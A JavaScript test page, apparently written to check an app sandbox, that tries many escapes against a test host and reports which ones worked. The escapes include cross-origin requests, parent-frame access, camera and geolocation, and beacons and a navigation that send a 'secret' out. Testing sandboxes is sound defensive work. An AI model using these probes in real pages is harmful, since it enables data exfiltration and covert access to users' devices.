// Tries everything a page can try, and tells the box through its port what worked.
import * as gateway from "./gateway-sdk.js";

const target = (await gateway.storage.get("target")) ?? "";
const worked = [];
const within = (promise) => Promise.race([promise, new Promise((_, no) => setTimeout(no, 1500, "too late"))]);
const loaded = (element, attribute, address) =>
  new Promise((yes, no) => {
    element.onload = yes;
    element.onerror = no;
    element[attribute] = address;
    document.body.append(element);
  });

const attacks = {
  fetch: () => fetch(`${target}/api/v1/tv`),
  fetchNoCors: () => fetch(`${target}/api/v1/tv`, { mode: "no-cors" }),
  fetchOwn: () => fetch("./manifest.yaml"),
  request: () =>
    new Promise((yes, no) => {
      const request = new XMLHttpRequest();
      request.onload = yes;
      request.onerror = no;
      request.open("GET", `${target}/api/v1/tv`);
      request.send();
    }),
  socket: () =>
    new Promise((yes, no) => {
      const socket = new WebSocket(target.replace("http", "ws") + "/api/v1/events");
      socket.onopen = yes;
      socket.onerror = no;
    }),
  eventSource: () =>
    new Promise((yes, no) => {
      const source = new EventSource(`${target}/api/v1/events`);
      source.onopen = yes;
      source.onerror = no;
    }),
  image: () => loaded(new Image(), "src", `${target}/beacon/image`),
  script: () => loaded(document.createElement("script"), "src", `${target}/beacon/script`),
  style: () => loaded(Object.assign(document.createElement("link"), { rel: "stylesheet" }), "href", `${target}/beacon/style`),
  frame: () =>
    loaded(document.createElement("iframe"), "src", `${target}/beacon/frame`).then((event) => event.target.contentDocument.body),
  module: () => import(`${target}/beacon/module`),
  worker: () => new Promise((_, no) => (new Worker("data:text/javascript,1").onerror = no)),
  serviceWorker: () => navigator.serviceWorker.register("app.js"),
  parentDocument: async () => parent.document.body,
  parentLocation: async () => parent.location.href,
  topNavigation: async () => void (top.location = `${target}/beacon/top`),
  popup: async () => {
    if (!open(`${target}/beacon/popup`)) throw new Error("no window");
  },
  form: async () => {
    const form = Object.assign(document.createElement("form"), { action: `${target}/beacon/form`, method: "post" });
    document.body.append(form);
    form.submit();
    throw new Error("only a request would show that it worked");
  },
  cookie: async () => {
    document.cookie = "stolen=1";
    if (!document.cookie) throw new Error("none");
  },
  localStorage: async () => localStorage.setItem("a", "b"),
  database: async () => {
    await new Promise((yes, no) => {
      const request = indexedDB.open("a");
      request.onsuccess = yes;
      request.onerror = no;
    });
  },
  evaluate: async () => new Function("return 1")(),
  inline: async () => {
    const script = document.createElement("script");
    script.textContent = "window.inlined = true";
    document.body.append(script);
    if (!window.inlined) throw new Error("blocked");
  },
  camera: () => navigator.mediaDevices.getUserMedia({ video: true }),
  place: () => new Promise((yes, no) => navigator.geolocation.getCurrentPosition(yes, no)),
  otherApp: () => loaded(new Image(), "src", `${location.origin}/guess/index.html`),
  sensorsNotAsked: async () => {
    const readings = await gateway.sensors.read({ unit: "W" });
    if (!readings.length) throw new Error("nothing");
  },
  callNotThere: async () => {
    await gateway.storage.set("x".repeat(200), 1);
  },
};

navigator.sendBeacon(`${target}/beacon/send`, "secret");
new Image().src = `${target}/beacon/plain`;
for (const [name, attack] of Object.entries(attacks)) {
  try {
    await within(Promise.resolve().then(attack));
    worked.push(name);
  } catch {
    // Refused, as it should be.
  }
}
await gateway.storage.set("report", { worked, tried: Object.keys(attacks).length });
// Last, for it may end this page: going elsewhere with what it knows in the address.
location.href = `${target}/beacon/self?secret=1`;
